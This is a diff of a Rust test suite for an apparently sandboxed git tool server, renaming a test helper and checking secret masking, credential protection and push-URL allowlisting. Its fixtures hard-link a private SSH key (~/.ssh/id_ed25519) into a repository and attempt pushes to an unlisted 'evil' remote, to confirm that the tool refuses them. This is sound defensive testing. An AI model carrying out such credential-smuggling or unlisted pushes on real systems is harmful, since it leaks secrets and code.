         c.ok("git_commit", json!({"repo": "repo", "message": "del", "paths": ["b.txt"]})).await;
     assert_eq!(out["files"], json!(["b.txt"]), "{out}");
     assert_eq!(
-        git(h, &repo, &["ls-tree", "-r", "--name-only", "HEAD"]),
+        host_git(h, &repo, &["ls-tree", "-r", "--name-only", "HEAD"]),
         "a.txt\nnewdir/x.txt\nnewdir/y/z.txt"
     );
-    assert_eq!(git(h, &repo, &["status", "--porcelain"]), "?? other.txt");
+    assert_eq!(host_git(h, &repo, &["status", "--porcelain"]), "?? other.txt");
 
     // A tracked secret file: its diff is masked and hands never commits it.
     write(&repo.join(".env"), "A=1\n");
-    git(h, &repo, &["add", "-f", ".env"]);
-    git(h, &repo, &["commit", "-q", "-m", "env"]);
+    host_git(h, &repo, &["add", "-f", ".env"]);
+    host_git(h, &repo, &["commit", "-q", "-m", "env"]);
     write(&repo.join(".env"), "A=hunter2\n");
     for args in [json!({"repo": "repo"}), json!({"repo": "repo", "path": ".env"})] {
         let d = c.ok("git_diff", args).await;
@@ -1184,12 +1159,12 @@ async fn commit_paths_secrets_first_commit_and_identity() {
     let out = c.ok("git_commit", json!({"repo": "repo", "message": "the rest"})).await;
     assert_eq!(out["files"], json!(["other.txt"]), "{out}");
     assert_eq!(out["skipped"], json!([".env"]), "{out}");
-    assert_eq!(git(h, &repo, &["show", "HEAD:.env"]), "A=1");
+    assert_eq!(host_git(h, &repo, &["show", "HEAD:.env"]), "A=1");
 
     // A repository with no commits yet.
     let u = fx.root.join("unborn");
     std::fs::create_dir_all(&u).unwrap();
-    git(h, &u, &["init", "-q", "-b", "main"]);
+    host_git(h, &u, &["init", "-q", "-b", "main"]);
     let s = c.ok("git_status", json!({"repo": "unborn"})).await;
     assert_eq!(s["branch"], "main", "{s}");
     assert!(s["head"].is_null(), "{s}");
@@ -1208,8 +1183,8 @@ async fn commit_paths_secrets_first_commit_and_identity() {
     let out = c.ok("git_commit", json!({"repo": "unborn", "message": "root"})).await;
     assert_eq!(out["branch"], "main", "{out}");
     assert_eq!(out["files"], json!(["f.txt"]));
-    assert_eq!(git(h, &u, &["rev-parse", "HEAD"]), out["id"].as_str().unwrap());
-    assert_eq!(git(h, &u, &["rev-list", "--count", "HEAD"]), "1");
+    assert_eq!(host_git(h, &u, &["rev-parse", "HEAD"]), out["id"].as_str().unwrap());
+    assert_eq!(host_git(h, &u, &["rev-list", "--count", "HEAD"]), "1");
     c.stop().await;
 
     // Without author_name/author_email the repository's identity is used; ~/.gitconfig is
@@ -1222,11 +1197,11 @@ async fn commit_paths_secrets_first_commit_and_identity() {
     write(&repo.join("n.txt"), "n\n");
     let e = c.err("git_commit", json!({"repo": "repo", "message": "who"})).await;
     assert!(e.contains("no commit identity"), "{e}");
-    git(h, &repo, &["config", "user.name", "Repo Person"]);
-    git(h, &repo, &["config", "user.email", "repo@example.com"]);
+    host_git(h, &repo, &["config", "user.name", "Repo Person"]);
+    host_git(h, &repo, &["config", "user.email", "repo@example.com"]);
     let out = c.ok("git_commit", json!({"repo": "repo", "message": "who"})).await;
     assert_eq!(
-        git(h, &repo, &["log", "-1", "--format=%an <%ae>|%cn", out["id"].as_str().unwrap()]),
+        host_git(h, &repo, &["log", "-1", "--format=%an <%ae>|%cn", out["id"].as_str().unwrap()]),
         "Repo Person <repo@example.com>|Repo Person"
     );
     c.stop().await;
@@ -1240,7 +1215,7 @@ async fn status_and_diff_stay_bounded_on_a_hundred_thousand_files() {
     let (fx, c) = start().await;
     let repo = fx.root.join("big");
     std::fs::create_dir_all(&repo).unwrap();
-    git(&fx.home, &repo, &["init", "-q", "-b", "main"]);
+    host_git(&fx.home, &repo, &["init", "-q", "-b", "main"]);
     for d in 0..1000 {
         let dir = repo.join(format!("d{d:04}"));
         std::fs::create_dir(&dir).unwrap();
@@ -1248,8 +1223,8 @@ async fn status_and_diff_stay_bounded_on_a_hundred_thousand_files() {
             std::fs::write(dir.join(format!("f{f:03}.txt")), format!("file {d} {f}\n")).unwrap();
         }
     }
-    git(&fx.home, &repo, &["add", "-A"]);
-    git(&fx.home, &repo, &["commit", "-q", "-m", "a hundred thousand files"]);
+    host_git(&fx.home, &repo, &["add", "-A"]);
+    host_git(&fx.home, &repo, &["commit", "-q", "-m", "a hundred thousand files"]);
     // Change 20,000 tracked files and leave 2,000 untracked ones.
     for d in 0..200 {
         for f in 0..100 {
@@ -1314,10 +1289,10 @@ async fn a_hard_link_to_a_credential_is_never_committed_or_shown() {
     }
     let out = c.ok("git_commit", json!({"repo": "repo", "message": "the rest"})).await;
     assert_eq!(out["files"], json!(["plain.txt"]), "{out}");
-    let tree = git(h, &repo, &["ls-tree", "-r", "--name-only", "HEAD"]);
+    let tree = host_git(h, &repo, &["ls-tree", "-r", "--name-only", "HEAD"]);
     assert!(!tree.contains("new-notes.txt"), "{tree}");
-    assert_eq!(git(h, &repo, &["show", "HEAD:notes.txt"]), "my notes");
-    let log = git(h, &repo, &["log", "-p", "--all"]);
+    assert_eq!(host_git(h, &repo, &["show", "HEAD:notes.txt"]), "my notes");
+    let log = host_git(h, &repo, &["log", "-p", "--all"]);
     assert!(!log.contains("canary-key"), "the key reached a commit: {log}");
     c.stop().await;
     fx.assert_canary();
@@ -1352,8 +1327,8 @@ async fn the_commondir_made_for_the_sandbox_leaves_the_git_tools_working() {
     assert_eq!(l["commits"][0]["summary"], "with commondir", "{l}");
     c.ok("git_branch", json!({"repo": "repo", "name": "task/c"})).await;
     c.ok("git_worktree_add", json!({"repo": "repo", "path": "wtc", "branch": "task/w"})).await;
-    assert_eq!(git(h, &repo, &["log", "-1", "--format=%s"]), "with commondir");
-    assert!(git(h, &repo, &["worktree", "list"]).contains("wtc"));
+    assert_eq!(host_git(h, &repo, &["log", "-1", "--format=%s"]), "with commondir");
+    assert!(host_git(h, &repo, &["worktree", "list"]).contains("wtc"));
     c.stop().await;
     fx.assert_canary();
 }
@@ -1384,8 +1359,8 @@ async fn paths_are_taken_as_git_prints_them_in_a_root_and_a_subfolder_repository
         // Tracked secret and a hard link to a credential, committed through the CLI.
         cli_commit(h, work, "docs/d.txt", "d\n", "docs");
         write(&work.join(".env"), "A=1\n");
-        git(h, work, &["add", "-f", ".env"]);
-        git(h, work, &["commit", "-q", "-m", "env"]);
+        host_git(h, work, &["add", "-f", ".env"]);
+        host_git(h, work, &["commit", "-q", "-m", "env"]);
         write(&work.join(".env"), "A=hunter2\n");
         std::fs::hard_link(h.join(".ssh/id_ed25519"), work.join("linked.txt")).unwrap();
         write(&work.join("a.txt"), &numbered(5));
@@ -1423,7 +1398,7 @@ async fn paths_are_taken_as_git_prints_them_in_a_root_and_a_subfolder_repository
             .ok("git_commit", json!({"repo": repo, "message": "abs", "paths": [abs("docs/d.txt")]}))
             .await;
         assert_eq!(out["files"], json!(["docs/d.txt"]), "{repo}: {out}");
-        assert_eq!(git(h, work, &["show", "--name-only", "--format=", "HEAD"]), "docs/d.txt");
+        assert_eq!(host_git(h, work, &["show", "--name-only", "--format=", "HEAD"]), "docs/d.txt");
 
         // Secrets and the hard link to a credential, in both spellings: masked, never committed.
         for path in [".env".to_string(), abs(".env"), "linked.txt".to_string(), abs("linked.txt")] {
@@ -1434,7 +1409,7 @@ async fn paths_are_taken_as_git_prints_them_in_a_root_and_a_subfolder_repository
                 c.err("git_commit", json!({"repo": repo, "message": "s", "paths": [path]})).await;
             assert!(e.contains("secret or denied file"), "{repo} {path}: {e}");
         }
-        assert!(!git(h, work, &["log", "-p", "--all"]).contains("hunter2"));
+        assert!(!host_git(h, work, &["log", "-p", "--all"]).contains("hunter2"));
 
         // Leaving the work tree or the roots: `..`, absolute paths elsewhere.
         let outside_tree = if repo.is_empty() {
@@ -1472,17 +1447,17 @@ async fn paths_are_taken_as_git_prints_them_in_a_root_and_a_subfolder_repository
         let e = c.err(tool, args).await;
         assert!(e.contains("pass `a.txt`"), "{tool}: {e}");
     }
-    assert_eq!(git(h, &sub, &["status", "--porcelain", "a.txt"]), " M a.txt");
+    assert_eq!(host_git(h, &sub, &["status", "--porcelain", "a.txt"]), " M a.txt");
     c.stop().await;
     fx.assert_canary();
 }
 
 /// A bare repository at `dir` with `main` holding one commit; returns that commit.
 fn bare_with_main(h: &Path, base: &Path, dir: &Path) -> String {
-    git(h, base, &["init", "-q", "--bare", "-b", "main", dir.to_str().unwrap()]);
+    host_git(h, base, &["init", "-q", "--bare", "-b", "main", dir.to_str().unwrap()]);
     let seed = base.join(format!("seed-{}", dir.file_name().unwrap().to_str().unwrap()));
     init_repo(h, &seed);
-    git(h, &seed, &["push", "-q", dir.to_str().unwrap(), "main"]);
+    host_git(h, &seed, &["push", "-q", dir.to_str().unwrap(), "main"]);
     std::fs::remove_dir_all(&seed).unwrap();
     ref_of(h, dir, "refs/heads/main").unwrap()
 }
@@ -1507,8 +1482,8 @@ async fn push_goes_only_to_the_urls_the_person_listed() {
     bare_with_main(h, &base, &inroot);
     let repo = fx.root.join("repo");
     init_repo(h, &repo);
-    git(h, &repo, &["remote", "add", "origin", listed.to_str().unwrap()]);
-    git(h, &repo, &["fetch", "-q", "origin"]);
+    host_git(h, &repo, &["remote", "add", "origin", listed.to_str().unwrap()]);
+    host_git(h, &repo, &["fetch", "-q", "origin"]);
 
     let mut text = git_config(true, true, "allow");
     text.push_str(&format!("urls = [\"file://{}/\"]\n", listed.display()));
@@ -1521,7 +1496,7 @@ async fn push_goes_only_to_the_urls_the_person_listed() {
     let c = Client::start(&fx, &config_named(&fx, "both.toml", &text)).await;
     let push = |branch: &str| json!({"repo": "repo", "branch": branch});
     let untouched = |why: &str| {
-        let refs = git(h, &unlisted, &["for-each-ref", "--format=%(refname) %(objectname)"]);
+        let refs = host_git(h, &unlisted, &["for-each-ref", "--format=%(refname) %(objectname)"]);
         assert_eq!(refs, format!("refs/heads/main {canary_main}"), "{why}: unlisted changed");
     };
 
@@ -1537,7 +1512,7 @@ async fn push_goes_only_to_the_urls_the_person_listed() {
     assert_eq!(ref_of(h, &listed, "refs/heads/task/x").unwrap(), x1);
     assert_eq!(ref_of(h, &repo, "refs/remotes/origin/task/x").unwrap(), x1, "tracking ref");
     // The same remote spelt relative to the work tree, as git reads it.
-    git(h, &repo, &["remote", "set-url", "origin", "../../listed.git"]);
+    host_git(h, &repo, &["remote", "set-url", "origin", "../../listed.git"]);
     write(&repo.join("x.txt"), "x2\n");
     let x2 = c.ok("git_commit", json!({"repo": "repo", "message": "x2"})).await["id"]
         .as_str()
@@ -1548,13 +1523,13 @@ async fn push_goes_only_to_the_urls_the_person_listed() {
 
     // Never forced: a non-fast-forward to the listed remote is refused.
     let other = base.join("other");
-    git(
+    host_git(
         h,
         &base,
         &["clone", "-q", "-b", "task/x", listed.to_str().unwrap(), other.to_str().unwrap()],
     );
     let theirs = cli_commit(h, &other, "theirs.txt", "theirs\n", "theirs");
-    git(h, &other, &["push", "-q", "origin", "task/x"]);
+    host_git(h, &other, &["push", "-q", "origin", "task/x"]);
     write(&repo.join("mine.txt"), "mine\n");
     c.ok("git_commit", json!({"repo": "repo", "message": "mine"})).await;
     let e = c.err("git_push", push("task/x")).await;
@@ -1564,7 +1539,7 @@ async fn push_goes_only_to_the_urls_the_person_listed() {
     // Unlisted, however the repository's config points there: refused, naming push.urls.
     c.ok("git_branch", json!({"repo": "repo", "name": "task/y"})).await;
     std::os::unix::fs::symlink(&unlisted, fx.root.join("link.git")).unwrap();
-    let inroot_before = git(h, &inroot, &["for-each-ref"]);
+    let inroot_before = host_git(h, &inroot, &["for-each-ref"]);
     let dotdot = format!("{}/../unlisted.git", listed.display());
     let file_url = format!("file://{}", unlisted.display());
     let link = fx.root.join("link.git").to_str().unwrap().to_string();
@@ -1578,22 +1553,22 @@ async fn push_goes_only_to_the_urls_the_person_listed() {
         "ssh://git@127.0.0.1:9/listed.git",
         "git@127.0.0.1:listed.git",
     ] {
-        git(h, &repo, &["remote", "set-url", "origin", url]);
+        host_git(h, &repo, &["remote", "set-url", "origin", url]);
         let e = c.err("git_push", push("task/y")).await;
         assert!(e.contains("push.urls does not list") && e.contains(url), "{url}: {e}");
         assert!(!e.contains("writable root"), "{e}");
         untouched(url);
     }
-    assert_eq!(git(h, &inroot, &["for-each-ref"]), inroot_before, "in-root remote unchanged");
+    assert_eq!(host_git(h, &inroot, &["for-each-ref"]), inroot_before, "in-root remote unchanged");
     // A pushurl is what a push goes to: listed pushurl, unlisted url → the listed one only;
     // the other way round → refused.
-    git(h, &repo, &["remote", "set-url", "origin", unlisted.to_str().unwrap()]);
-    git(h, &repo, &["config", "remote.origin.pushurl", listed.to_str().unwrap()]);
+    host_git(h, &repo, &["remote", "set-url", "origin", unlisted.to_str().unwrap()]);
+    host_git(h, &repo, &["config", "remote.origin.pushurl", listed.to_str().unwrap()]);
     let p = c.ok("git_push", push("task/y")).await;
     assert_eq!(ref_of(h, &listed, "refs/heads/task/y").unwrap(), p["new"].as_str().unwrap());
     untouched("listed pushurl, unlisted url");
-    git(h, &repo, &["remote", "set-url", "origin", listed.to_str().unwrap()]);
-    git(h, &repo, &["config", "remote.origin.pushurl", unlisted.to_str().unwrap()]);
+    host_git(h, &repo, &["remote", "set-url", "origin", listed.to_str().unwrap()]);
+    host_git(h, &repo, &["config", "remote.origin.pushurl", unlisted.to_str().unwrap()]);
     write(&repo.join("y.txt"), "y2\n");
     c.ok("git_commit", json!({"repo": "repo", "message": "y2"})).await;
     let e = c.err("git_push", push("task/y")).await;
@@ -1608,12 +1583,16 @@ async fn push_goes_only_to_the_urls_the_person_listed() {
     assert_eq!(r["denied"][0]["layer"], "sandbox (in-run walls)", "{r}");
     for (name, url) in [("evil", &unlisted), ("good", &listed)] {
         let r = fx.root.join(name);
-        git(h, &fx.root, &["init", "-q", "-b", "main", name]);
+        host_git(h, &fx.root, &["init", "-q", "-b", "main", name]);
         write(&r.join("e.txt"), "e\n");
-        git(h, &r, &["add", "e.txt"]);
-        git(h, &r, &["-c", "user.name=A", "-c", "user.email=a@example.com", "commit", "-qm", "e"]);
-        git(h, &r, &["branch", &format!("task/{name}")]);
-        git(h, &r, &["remote", "add", "origin", url.to_str().unwrap()]);
+        host_git(h, &r, &["add", "e.txt"]);
+        host_git(
+            h,
+            &r,
+            &["-c", "user.name=A", "-c", "user.email=a@example.com", "commit", "-qm", "e"],
+        );
+        host_git(h, &r, &["branch", &format!("task/{name}")]);
+        host_git(h, &r, &["remote", "add", "origin", url.to_str().unwrap()]);
     }
     let e = c.err("git_push", json!({"repo": "evil", "branch": "task/evil"})).await;
     assert!(e.contains("push.urls does not list"), "{e}");
